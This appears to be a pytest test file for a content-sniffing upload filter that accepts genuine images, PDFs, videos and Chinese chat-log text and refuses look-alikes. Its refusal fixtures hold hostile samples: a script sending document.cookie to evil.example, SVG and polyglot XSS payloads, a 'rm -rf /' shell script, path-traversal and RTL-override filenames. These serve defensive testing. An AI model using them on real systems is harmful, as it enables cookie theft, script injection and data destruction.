"""Evidence types are judged by content: real files of each accepted type pass, look-alikes and binaries do not."""
import base64
import io
import struct
import sys
import zipfile
import zlib
from pathlib import Path

import pytest

from arbitration.evidence.sniff import (ACCEPTED, HEAD_SIZE, ContentInspector, Refused, TextChecker, safe_display_name,
                                        sniff)


# -- real sample files, generated --------------------------------------------------------------------------

def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int = 2, height: int = 2, extra_chunks: bytes = b"") -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)  # 8-bit RGB
    rows = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + extra_chunks
            + _png_chunk(b"IDAT", zlib.compress(rows)) + _png_chunk(b"IEND", b""))


def jpeg() -> bytes:
    """A JFIF header, quantisation and frame headers, then end of image: what a camera file starts with."""
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    dqt = b"\xff\xdb" + struct.pack(">H", 67) + b"\x00" + bytes(range(1, 65))
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, 1, 1, 1) + b"\x01\x11\x00"
    return b"\xff\xd8" + app0 + dqt + sof + b"\xff\xd9"


GIF = base64.b64decode("R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==")  # 1x1 transparent
WEBP = base64.b64decode("UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==")  # 1x1 lossless


def pdf() -> bytes:
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def _box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def mp4(major: bytes = b"isom", compatible: tuple[bytes, ...] = (b"isom", b"iso2", b"avc1", b"mp41")) -> bytes:
    ftyp = _box(b"ftyp", major + struct.pack(">I", 512) + b"".join(compatible))
    return ftyp + _box(b"free", b"") + _box(b"mdat", bytes(range(256)) * 8)


def _ebml(element_id: bytes, payload: bytes) -> bytes:
    return element_id + bytes([0x80 | len(payload)]) + payload  # one-byte sizes are enough here


def webm(doctype: bytes = b"webm") -> bytes:
    header = b"".join([_ebml(b"\x42\x86", b"\x01"), _ebml(b"\x42\xf7", b"\x01"), _ebml(b"\x42\xf2", b"\x04"),
                       _ebml(b"\x42\xf3", b"\x08"), _ebml(b"\x42\x82", doctype), _ebml(b"\x42\x87", b"\x04"),
                       _ebml(b"\x42\x85", b"\x02")])
    segment = b"\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff"  # Segment of unknown size
    return _ebml(b"\x1a\x45\xdf\xa3", header) + segment + bytes(64)


CHAT_UTF8 = "2026-09-30 10:01 买家：卡密无效，请退款\n2026-09-30 10:02 商家：请提供截图\n".encode()
CHAT_GB18030 = "2026-09-30 10:01 买家：卡密无效\n2026-09-30 10:02 商家：已补发\n".encode("gb18030")
CSV = "时间,发送者,内容\n2026-09-30 10:01,买家,卡密无效\n2026-09-30 10:02,商家,已补发\n".encode()


def pe_executable() -> bytes:
    """A DOS header pointing at a PE header, with the usual DOS stub: what every .exe starts with."""
    dos = bytearray(64)
    dos[0:2] = b"MZ"
    dos[2:4] = struct.pack("<H", 0x90)
    dos[60:64] = struct.pack("<I", 128)
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    stub = stub.ljust(64, b"\x00")
    coff = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, 0x22)
    return bytes(dos) + stub + coff + bytes(512)


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("聊天记录.txt", CHAT_UTF8)
        archive.writestr("setup.exe", pe_executable())
    return buffer.getvalue()


# -- accepted ------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("content, mime, extension", [
    (png(), "image/png", "png"),
    (jpeg(), "image/jpeg", "jpg"),
    (GIF, "image/gif", "gif"),
    (WEBP, "image/webp", "webp"),
    (pdf(), "application/pdf", "pdf"),
    (mp4(), "video/mp4", "mp4"),
    (mp4(major=b"mp42", compatible=(b"mp42", b"isom")), "video/mp4", "mp4"),
    (webm(), "video/webm", "webm"),
    (CHAT_UTF8, "text/plain", "txt"),
    (CHAT_GB18030, "text/plain", "txt"),
    (b"\xef\xbb\xbf" + CHAT_UTF8, "text/plain", "txt"),
    (CSV, "text/csv", "csv"),
], ids=["png", "jpeg", "gif", "webp", "pdf", "mp4-isom", "mp4-mp42", "webm", "utf8-chat", "gb18030-chat",
        "utf8-bom-chat", "csv"])
def test_each_accepted_type_is_recognised_by_its_content(content, mime, extension):
    found = sniff(content, complete=True)
    assert (found.mime, found.extension) == (mime, extension)


def test_a_gb18030_chat_log_is_served_with_its_charset():
    found = sniff(CHAT_GB18030, complete=True)
    assert found.charset == "gb18030"
    assert found.content_type == "text/plain; charset=gb18030"
    assert sniff(CHAT_UTF8, complete=True).content_type == "text/plain; charset=utf-8"


def test_the_accepted_list_names_every_type_a_refusal_message_can_offer():
    assert {t.mime for t in ACCEPTED} == {"image/jpeg", "image/png", "image/gif", "image/webp", "application/pdf",
                                          "text/plain", "text/csv", "video/mp4", "video/webm"}
    assert all(t.label for t in ACCEPTED)
    assert sniff(png()).label == "PNG image"


# -- refused -------------------------------------------------------------------------------------------------

HTML = b"<!DOCTYPE html>\n<html><body><script>document.location='https://evil.example/?'+document.cookie</script>"
SVG = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
       b"<script>alert(document.domain)</script></svg>")


@pytest.mark.parametrize("content", [
    HTML,
    b"\n\n   " + HTML,
    b"\xef\xbb\xbf<html><p>hi</p></html>",
    SVG,
    b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    b'<?xml version="1.0"?><note>hi</note>',
    b"<script>alert(1)</script>",
    b"#!/bin/sh\nrm -rf /\n",
    Path(sys.executable).resolve().read_bytes()[:HEAD_SIZE],
    pe_executable(),
    zip_archive(),
    zlib.compress(CHAT_UTF8),
    b"",
    b"   \n\t\n",
    png(extra_chunks=_png_chunk(b"tEXt", b"Comment\x00<html><script>alert(1)</script></html>")),
    png()[:16] + b"<html><body><script>alert(1)</script>",
    GIF[:6] + b"<svg onload=alert(1)>",
    "聊天记录".encode("utf-16"),
    CHAT_UTF8 + b"\x00\x01\x02binary",
    mp4(major=b"qt  ", compatible=(b"qt  ",)),
    mp4(major=b"heic", compatible=(b"mif1", b"heic")),
    webm(doctype=b"matroska"),
], ids=["html", "html-after-blank-lines", "html-after-bom", "svg-with-script", "bare-svg", "xml", "script",
        "shell-script", "elf-executable", "windows-pe", "zip", "zlib", "empty", "blank", "png-with-html-in-a-chunk",
        "png-header-then-html", "gif-header-then-svg", "utf16-text", "text-with-nul", "quicktime-mov",
        "heic-photo", "matroska"])
def test_anything_else_is_refused_whatever_its_name(content):
    with pytest.raises(Refused):
        sniff(content, complete=True)


@pytest.mark.parametrize("content, reason", [
    (Path(sys.executable).resolve().read_bytes()[:HEAD_SIZE], "ELF executable"),
    (pe_executable(), "Windows executable"),
    (zip_archive(), "ZIP archive"),
    (zlib.compress(CHAT_UTF8), "neither UTF-8 nor GB18030"),
])
def test_executables_and_archives_are_named_in_the_reason_for_the_logs(content, reason):
    with pytest.raises(Refused, match=reason):
        sniff(content, complete=True)


def test_an_html_page_named_png_is_refused_because_names_are_never_read():
    # sniff is given bytes only: there is no way for the name "receipt.png" to matter
    with pytest.raises(Refused, match="markup"):
        sniff(HTML, complete=True)


# -- streaming text ------------------------------------------------------------------------------------------

def _stream(inspector: ContentInspector, content: bytes, chunk: int) -> None:
    for start in range(0, len(content), chunk):
        inspector.feed(content[start:start + chunk])
    inspector.finish()


@pytest.mark.parametrize("chunk", [1, 7, 4096, 1 << 20])
def test_a_chat_log_streamed_in_any_chunk_size_is_accepted_even_when_characters_straddle_chunks(chunk):
    content = CHAT_GB18030 * 400  # ~24 KB: longer than the head
    inspector = ContentInspector()
    _stream(inspector, content, chunk)
    assert inspector.result.content_type == "text/plain; charset=gb18030"


def test_a_gb18030_log_opening_with_a_long_ascii_header_is_still_recognised_as_gb18030():
    content = b"time,sender,message\n" + b"2026-09-30 10:00,system,ok\n" * 400 + CHAT_GB18030
    assert len(content) > HEAD_SIZE * 1.2
    inspector = ContentInspector()
    _stream(inspector, content, 4096)
    assert inspector.result.charset == "gb18030"


def test_text_that_turns_binary_after_the_head_is_refused_while_streaming():
    inspector = ContentInspector()
    with pytest.raises(Refused, match="binary"):
        _stream(inspector, CHAT_UTF8 * 500 + b"\x7fELF\x02\x01\x01\x00" + bytes(64), 4096)


def test_text_whose_encoding_breaks_after_the_head_is_refused_while_streaming():
    inspector = ContentInspector()
    with pytest.raises(Refused, match="utf-8"):
        _stream(inspector, CHAT_UTF8 * 500 + "卡密".encode("gb18030"), 4096)


def test_a_text_file_cut_in_the_middle_of_a_character_is_refused():
    with pytest.raises(Refused):
        _stream(ContentInspector(), CHAT_UTF8 + "买".encode()[:2], 4096)
    checker = TextChecker()
    checker.feed("买家".encode()[:4])
    checker.feed("买家".encode()[4:])
    checker.finish()
    assert checker.charset == "utf-8"


def test_binary_files_are_judged_on_their_head_only():
    inspector = ContentInspector()
    _stream(inspector, mp4() + bytes(3 * HEAD_SIZE), 1000)
    assert inspector.result.mime == "video/mp4"


# -- display names -------------------------------------------------------------------------------------------

@pytest.mark.parametrize("given, shown", [
    ("../../etc/passwd", "passwd"),
    ("C:\\x\\evil.exe", "evil.exe"),
    ("/var/www/../截图.png", "截图.png"),
    ("a\x00b\x07c\r\n.txt", "abc.txt"),
    ("invoice\u202egnp.exe", "invoicegnp.exe"),  # the RTL override that makes "exe.png" read as "...png"
    ("\u2066秘密\u2069.pdf", "秘密.pdf"),
    ("zero\u200bwidth.txt", "zerowidth.txt"),
    (".htaccess", "htaccess"),
    ("...", "file"),
    ("", "file"),
    ("\x00\x01", "file"),
    ("a<b>c:d|e?f*.txt", "a_b_c_d_e_f_.txt"),
    ("  spaced   out  .png  ", "spaced out .png"),
    ("trailing dots...", "trailing dots"),
])
def test_display_names_lose_paths_controls_and_bidi_tricks(given, shown):
    assert safe_display_name(given) == shown


def test_a_long_name_is_cut_to_120_characters_keeping_its_extension():
    name = safe_display_name("订单截图" * 50 + ".jpeg")
    assert len(name) == 120
    assert name.startswith("订单截图") and name.endswith(".jpeg")
    assert len(safe_display_name("x" * 500)) == 120


def test_a_name_that_is_only_a_hidden_extension_keeps_the_word():
    assert safe_display_name("\u202e.png") == "png"
    assert safe_display_name("/.pdf") == "pdf"
